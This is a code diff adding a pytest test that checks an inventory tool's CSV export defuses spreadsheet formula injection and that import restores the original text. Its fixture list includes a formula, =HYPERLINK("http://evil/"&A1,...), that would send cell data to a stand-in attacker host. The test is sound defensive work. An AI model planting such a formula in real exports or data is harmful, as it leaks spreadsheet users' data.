@@ -1,9 +1,10 @@
+import csv
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
-from sqlalchemy import select
+from sqlalchemy import delete, select
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from api.commands import items_csv
@@ -272,6 +273,47 @@ async def test_import_a_missing_file(
 ) -> None:
     assert await run_cli("import", str(tmp_path / "nope.csv")) == 1
     assert capsys.readouterr().err.startswith("inventory: error: cannot read ")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil/"&A1,"x")',
+    "+1+1",
+    "-2-2",
+    "@SUM(A1:A9)",
+    "'=quoted already",
+    "''@twice",
+    "'plain quote",
+    "plain",
+]
+
+
+async def test_export_defuses_formulas_and_import_restores_them_exactly(
+    db: AsyncSession, editor: User, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue 14, point 4: an item named =HYPERLINK(...) ran in a spreadsheet."""
+    for n, text in enumerate(FORMULAS):
+        await make_item(db, name=text, sku=f"{text[:40]}#{n}", quantity=n, description=text)
+    await make_item(db, name="tab", sku="TAB", quantity=1, description="\tindented\r\nline")
+    before = await _items(db)
+    file = tmp_path / "items.csv"
+    assert await run_cli("export", str(file)) == 0
+    rows = list(csv.reader(file.read_text(encoding="utf-8").splitlines(keepends=True)))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    names = [row[1] for row in rows[1:]]
+    assert names[:4] == ["'" + text for text in FORMULAS[:4]]
+    assert names[4:8] == ["''=quoted already", "'''@twice", "'plain quote", "plain"]
+
+    assert await run_cli("import", str(file), "--as", "stock") == 0
+    assert capsys.readouterr().out.endswith(f"0 created, 0 updated, {len(before)} unchanged\n")
+    assert await _items(db) == before
+    # Into an empty inventory, too: the same text comes back.
+    await db.execute(delete(Item))
+    await db.commit()
+    assert await run_cli("import", str(file), "--as", "stock") == 0
+    restored = await db.execute(select(Item.sku, Item.name, Item.description).order_by(Item.id))
+    assert [tuple(r) for r in restored] == [(r[1], r[2], r[4]) for r in before]
 
 
 # --- stock movements ------------------------------------------------------------------------
